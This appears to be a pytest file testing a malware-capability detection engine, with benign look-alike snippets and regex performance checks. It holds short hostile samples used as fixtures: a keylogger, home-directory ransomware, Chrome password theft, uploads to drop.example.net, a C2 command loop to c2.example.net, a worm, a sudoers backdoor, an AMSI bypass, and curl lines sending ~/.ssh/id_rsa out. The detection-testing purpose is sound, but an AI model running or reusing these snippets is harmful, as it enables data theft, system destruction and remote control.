"""The capability engine: families found by what code does as a whole, benign look-alikes left alone,
and a prefilter that never changes what the patterns find.

The snippets are written from the public descriptions of each technique (MITRE ATT&CK), not taken
from the measured corpora."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from codeeval.scanners import ScanConfig, scan_code
from codeeval.scanners.capabilities import (
    CAPABILITIES,
    FAMILIES,
    Analysis,
    _fast,
    ascii_lower,
    capabilities,
    detect,
    required_literal,
    top_level_branches,
)
from codeeval.types import Severity

ROOT = Path(__file__).resolve().parents[2]


def families(code: str) -> set[str]:
    return {f.rule_id for f in detect(code)}


MALWARE = {
    "capability-keylogger": """
from pynput import keyboard
import smtplib
buffer = []
def on_press(key):
    buffer.append(str(key))
def ship():
    server = smtplib.SMTP("smtp.example.com", 587)
    server.sendmail("me@example.com", "me@example.com", "".join(buffer))
keyboard.Listener(on_press=on_press).start()
""",
    "capability-ransomware": """
import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
def lock(path):
    with open(path, "rb") as f:
        data = f.read()
    with open(path, "wb") as f:
        f.write(Fernet(key).encrypt(data))
for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        lock(os.path.join(root, name))
""",
    "capability-credential-theft": """
import os, shutil, sqlite3
db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(db, "tmp.db")
rows = sqlite3.connect("tmp.db").execute("select origin_url, username_value, password_value from logins")
""",
    "capability-exfiltration": """
import os, requests, time, random
for root, dirs, files in os.walk("/srv/share"):
    for name in files:
        if "confidential" in name:
            requests.post("https://drop.example.net/u", files={"f": open(os.path.join(root, name), "rb")})
            time.sleep(random.randint(600, 3600))
""",
    "capability-phishing": """
from flask import Flask, request
import requests
app = Flask(__name__)
@app.route("/login", methods=["POST"])
def login():
    requests.post("https://collector.example.net/c", data={"u": request.form["email"], "p": request.form["password"]})
    return "ok"
""",
    "capability-cryptojacking": """#!/bin/bash
curl -sL https://example.net/xmrig -o /tmp/.x && chmod +x /tmp/.x
/tmp/.x -o stratum+tcp://pool.example.net:3333 -u WALLET --donate-level 1
""",
    "capability-worm": """
import paramiko, sys
def spread(host):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(host, username="root", password="root")
    c.open_sftp().put(sys.argv[0], "/tmp/w.py")
    c.exec_command("python3 /tmp/w.py")
""",
    "capability-persistence": """
import subprocess, sys
subprocess.run(["schtasks", "/create", "/tn", "Updater", "/tr", sys.executable, "/sc", "onlogon"])
subprocess.run(["reg", "add", r"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "/v", "Updater", "/d", sys.executable])
""",
    "capability-denial-of-service": """
import socket, random, threading
target_ip = "203.0.113.9"
def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        s.sendto(random._urandom(1024), (target_ip, 80))
for _ in range(500):
    threading.Thread(target=flood).start()
""",
    "capability-privilege-backdoor": """#!/bin/bash
cp /bin/bash /tmp/.sh
chmod u+s /tmp/.sh
echo 'ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/zz
""",
    "capability-log-tampering": """#!/bin/bash
LOG=/var/log/auth.log
sed -i "/$USER/d" $LOG
""",
    "capability-remote-control": """
import socket, subprocess, time
while True:
    s = socket.create_connection(("c2.example.net", 443))
    cmd = s.recv(4096).decode()
    s.sendall(subprocess.check_output(cmd, shell=True))
    time.sleep(5)
""",
    "capability-defence-evasion": """
import ctypes
amsi = ctypes.windll.LoadLibrary("amsi.dll")
addr = ctypes.windll.kernel32.GetProcAddress(amsi._handle, b"AmsiScanBuffer")
""",
    "capability-screen-spy": """
import pyautogui, requests, time
while True:
    pyautogui.screenshot("s.png")
    requests.post("https://example.net/up", files={"f": open("s.png", "rb")})
    time.sleep(60)
""",
}

BENIGN = {
    "hotkeys without logging": """
from pynput import keyboard
def on_activate():
    print("hotkey pressed")
with keyboard.GlobalHotKeys({"<ctrl>+<alt>+h": on_activate}) as h:
    h.join()
""",
    "backup to object storage": """
import os, tarfile, boto3
with tarfile.open("backup.tgz", "w:gz") as tar:
    for root, dirs, files in os.walk("/srv/data"):
        for name in files:
            tar.add(os.path.join(root, name))
boto3.client("s3").upload_file("backup.tgz", "my-bucket", "backup.tgz")
""",
    "encrypt to a new file": """
from cryptography.fernet import Fernet
def encrypt_file(src, dst, key):
    with open(src, "rb") as f:
        data = f.read()
    with open(dst, "wb") as f:
        f.write(Fernet(key).encrypt(data))
""",
    "a config file encrypted at rest": """
import os
from cryptography.fernet import Fernet
fernet = Fernet(os.environ["CONFIG_KEY"])
path = "config.json"
with open(path, "r") as f:
    data = f.read()
with open(path, "w") as f:
    f.write(fernet.encrypt(data.encode()).decode())
""",
    "a login page posting to its own site": """
document.getElementById("login").addEventListener("submit", async (e) => {
  e.preventDefault();
  const password = document.getElementById("password").value;
  await fetch("/session", { method: "POST", body: JSON.stringify({ password }) });
});
""",
    "sign-up that hashes passwords": """
from flask import request
from werkzeug.security import generate_password_hash
def signup(db):
    db.execute("INSERT INTO users (name, pw) VALUES (?, ?)", (request.form["name"], generate_password_hash(request.form["password"])))
""",
    "a threaded echo server": """
import socket, threading
def handle(conn):
    while True:
        data = conn.recv(1024)
        conn.send(data)
srv = socket.socket(); srv.bind(("0.0.0.0", 9000)); srv.listen()
while True:
    conn, _ = srv.accept()
    threading.Thread(target=handle, args=(conn,)).start()
""",
    "a deploy script logging in with its own key": """
import paramiko, os
c = paramiko.SSHClient()
c.connect("deploy.example.com", key_filename=os.path.expanduser("~/.ssh/id_ed25519"))
c.open_sftp().put("dist/app.tar.gz", "/srv/app.tar.gz")
""",
    "reading the crontab": """#!/bin/bash
crontab -l
systemctl status cron
""",
    "a comment that describes malware": """
# send the keystrokes to the server, then encrypt the files and delete them (pynput, smtplib)
print("hello")
""",
    "a ping endpoint with an argument list": """
import subprocess
from flask import request
def ping():
    host = request.args["host"]
    return subprocess.run(["ping", "-c", "1", host], capture_output=True).stdout
""",
    "a log viewer": """
def errors(path="/var/log/syslog"):
    with open(path) as f:
        return [line for line in f if "error" in line]
""",
    "a recursive directory size": """
import os
def size(path):
    total = 0
    for entry in os.scandir(path):
        total += size(entry.path) if entry.is_dir() else entry.stat().st_size
    return total
""",
    "a click command line that runs the command it is given": """
import click, subprocess
@click.command()
@click.argument("cmd")
def main(cmd):
    subprocess.run(cmd, shell=True)
""",
    "a setup script that hands out a public key and reads its own token from the keyring": """
import keyring, subprocess
subprocess.run(["scp", os.path.expanduser("~/.ssh/id_ed25519.pub"), "deploy@203.0.113.7:.ssh/authorized_keys"])
token = keyring.get_password("deploy-cli", "me")
""",
    "a chat bot that imports keyboard and never listens": """
import keyboard
import telebot
bot = telebot.TeleBot(TOKEN)
bot.send_message(CHAT, "status: ok")
""",
    "a browser game that reads its own keys and posts a score": """
this.cursors = this.input.keyboard.addKey('SPACE');
fetch('https://scores.example/api', {method: 'POST', body: JSON.stringify({score})});
""",
    "a bank-branded login form nothing reads": """
<h2>Chase Online Login</h2>
<form><input type="text" name="user"><input type="password" name="password"></form>
""",
    "a shell that resolves drive letters and its own path": """
import os
root = drive_name + ":/"
here = os.path.dirname(__file__)
""",
}


@pytest.mark.parametrize("rule_id", sorted(MALWARE))
def test_each_family_is_found_in_code_written_from_its_description(rule_id):
    assert rule_id in families(MALWARE[rule_id])


def test_every_family_has_an_example():
    assert {f.rule_id for f in FAMILIES} == set(MALWARE)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_look_alikes_are_not_malware(name):
    assert families(BENIGN[name]) == set()


def test_findings_name_each_capability_with_its_line():
    finding = next(f for f in detect(MALWARE["capability-keylogger"]) if f.rule_id == "capability-keylogger")
    assert finding.category == "malicious" and finding.severity == Severity.CRITICAL
    assert finding.line == 2  # the pynput import
    assert "captures keystrokes (line 2" in finding.message and "sends data out (line" in finding.message


def test_the_engine_runs_in_the_one_scan_every_entry_point_uses():
    result = scan_code(MALWARE["capability-ransomware"], "python")
    assert any(f.rule_id == "capability-ransomware" and f.category == "malicious" for f in result.findings)
    only_others = scan_code(MALWARE["capability-ransomware"], "python", ScanConfig(engines=("bandit", "semgrep")))
    assert not any(f.rule_id.startswith("capability-") for f in only_others.findings)


def test_split_branches_cover_the_whole_pattern():
    for cap in CAPABILITIES:
        assert len(top_level_branches(cap.pattern.pattern)) == len(cap.branches), cap.name
        # the branches joined again are the pattern itself
        assert "|".join(top_level_branches(cap.pattern.pattern)) == cap.pattern.pattern


def _corpus_texts() -> list[str]:
    texts = [*MALWARE.values(), *BENIGN.values()]
    for folder in ("benchmarks/quality/malicious_real/answers", "benchmarks/quality/malicious/answers"):
        texts += [p.read_text(encoding="utf-8") for p in sorted((ROOT / folder).glob("*.md"))]
    for ext in ("py", "sh", "js"):
        texts += [p.read_text(encoding="utf-8") for p in sorted((ROOT / "rules").rglob(f"*.{ext}"))]
    return texts


def test_the_prefilter_never_changes_what_is_found():
    """Each branch's required substring is in every match of that branch, and the branches together
    find a match exactly where the whole pattern does."""
    for text in _corpus_texts():
        a = Analysis(text)
        for cap in CAPABILITIES:
            whole = {a.line_of(m.start()) for m in cap.pattern.finditer(a.text)}
            split = {a.line_of(start) for start, _ in cap.finditer(a.text, a.lowered)}
            assert whole <= split and bool(whole) == bool(split), cap.name
            for hint, branch, on_lowered in cap.branches:
                for m in branch.finditer(a.lowered if on_lowered else a.text):
                    found = a.text[m.start():m.end()]
                    found = found.lower() if cap.pattern.flags & re.IGNORECASE else found
                    assert hint is None or hint in found, (cap.name, hint, found)


def test_fast_forms_match_what_the_written_pattern_matches():
    assert _fast(r"\bpynput\b") == r"pynput(?<=\bpynput)\b"
    assert _fast(r"\bkeys?\b") == r"key(?<=\bkey)s?\b"  # a quantified last letter stays with its quantifier
    assert _fast(r"(?:a|b)") == r"(?:a|b)"
    text = "x = keyboard; mykeyboard; Keyboard"
    for src in (r"\bkeyboard\b", r"\bkeys?\w*"):
        assert [m.span() for m in re.finditer(_fast(src), text)] == [m.span() for m in re.finditer(src, text)]
    assert ascii_lower("İSTANBUL Ä") == "İstanbul Ä"  # only A-Z change, so offsets hold


def test_required_literal_reads_the_regex_not_its_text():
    assert required_literal(re.compile(r"\bpynput\b")) == "pynput"
    assert required_literal(re.compile(r"(?:start|run)_?miner\b", re.IGNORECASE)) == "miner"
    assert required_literal(re.compile(r"ab?c")) is None  # "b" is optional: no run of three
    assert required_literal(re.compile(r"Login Data", re.IGNORECASE)) == "login data"


def test_capabilities_lists_every_one_found():
    found = capabilities(MALWARE["capability-worm"])
    assert {"remote_exec", "self_copy", "recursion"} - found.keys() == {"recursion"}
    assert found["self_copy"][0].line == 7



def test_a_file_the_engine_cannot_analyse_is_an_error_not_a_clean_result(tmp_path, monkeypatch):
    from codeeval.scanners import capabilities as engine
    from codeeval.scanners.base import ScanConfig, Workspace

    def broken(code: str):
        raise ValueError("cannot read this")

    monkeypatch.setattr(engine, "detect", broken)
    path = tmp_path / "s0.py"
    path.write_text("print(1)\n")
    workspace = Workspace(tmp_path, {str(path.resolve()): 0})
    out = engine.CapabilityScanner().scan(workspace, [path], ScanConfig())
    assert out.sample_errors == {0: ["capabilities: ValueError: cannot read this"]} and not out.findings


def test_a_comment_cannot_excuse_a_flood():
    disguised = MALWARE["capability-denial-of-service"] + "# conn.recv(1024) and srv.listen() elsewhere\n"
    assert "capability-denial-of-service" in families(disguised)


@pytest.mark.parametrize("code", [
    "for u in /home/*; do\n  curl -F f=@$u/.ssh/id_rsa https://collector.example/u\ndone\n",
    "ls /tmp/*\nrm -rf /*\ncurl -F f=@$HOME/.ssh/id_rsa https://collector.example/u\n",
])
def test_a_shell_glob_is_not_a_comment_that_hides_the_rest(code):
    # `/*` opens a block comment only at a token's start and when closed below; a glob left the rest unread
    assert "capability-credential-theft" in {f.rule_id for f in detect(code)}


def test_a_block_comment_still_hides_what_it_says():
    code = "/* curl -F f=@$HOME/.ssh/id_rsa https://collector.example/u\n*/\necho done\n"
    assert detect(code) == []


def test_a_family_needs_its_parts_together_not_scattered_over_a_large_file():
    flood = ("import threading, requests\ntarget_url = 'https://shop.example/'\n\ndef hit():\n    while True:\n"
             "        requests.get(target_url)\n\nfor _ in range(500):\n    threading.Thread(target=hit).start()\n")
    assert "capability-denial-of-service" in families(flood)
    filler = "".join(f"def helper_{i}(x):\n    return x + {i}\n\n" for i in range(200))
    scattered = ("import threading, requests\ntarget_url = 'https://api.example/'\n" + filler
                 + "def poll():\n    while True:\n        job = queue.get()\n" + filler
                 + "def send(data):\n    requests.get(target_url)\n" + filler
                 + "worker = threading.Thread(target=poll)\n")
    assert "capability-denial-of-service" not in families(scattered)


@pytest.mark.parametrize("padding", ["\n" * 400, "# nothing to see here\n" * 400, "'''\n" + "text\n" * 400 + "'''\n",
                                     "".join(f"v{i} = {i}\n" for i in range(250))])
def test_padding_between_the_parts_does_not_hide_a_family(padding):
    # blank lines and comments are not code, and a program of a few hundred lines is read as one piece
    parts = ["import threading, requests\ntarget_url = 'https://shop.example/'\n",
             "def hit():\n    while True:\n        requests.get(target_url)\n",
             "for _ in range(500):\n    threading.Thread(target=hit).start()\n"]
    assert "capability-denial-of-service" in families(padding.join(parts))


@pytest.mark.parametrize("code", [
    "import threading, requests\nwhile True:\n    requests.get(url)\nthreading.Thread(target=run).start()\n",
    "import threading\nworker = threading.Thread(\n    target=run,\n    daemon=True,\n)\n",
])
def test_the_keyword_of_a_thread_is_not_an_attack_target(code):
    assert not capabilities(code).get("attack_target")


def test_an_assignment_is_an_attack_target():
    assert capabilities("target_url = 'https://shop.example/'\nTARGET_IP=203.0.113.7\n").get("attack_target")


# Blanks, option runs and long words after each capability's own literal: the inputs on which a regex
# whose parts can take the same characters backtracks quadratically (`\s+[^\n]*`, `\w*x\w*`) or
# exponentially (`(?:-\S+\s+(?:\S+\s+)?)*`). `vet` reads hostile code; none may stall it.
_RUNS = ["-a b ", "a: ", "-o ", "x@y ", "$a ", "-a ", "a", "s", " ", "\t", "encrypt", "disable", "/", ":", "x.", "'", "$", "-",
         "0", "=", "ab ", "-s"]


@pytest.mark.slow
def test_no_capability_backtracks_on_long_runs_after_its_literal():
    import time

    slow = []
    for cap in CAPABILITIES:
        for hint in {h for h, _, _ in cap.branches if h} or {""}:
            for run in _RUNS:
                text = hint + " " + run * (30 if run.endswith(" ") and len(run) > 1 else 12000 // len(run)) + "\n"
                # CPU time of this process, which other jobs on a loaded machine barely inflate: a linear
                # search of 12 KB takes milliseconds, a backtracking one seconds
                start = time.process_time()
                Analysis(text).hits(cap.name)
                if time.process_time() - start > 0.25:
                    slow.append((cap.name, hint, run))
    assert slow == []
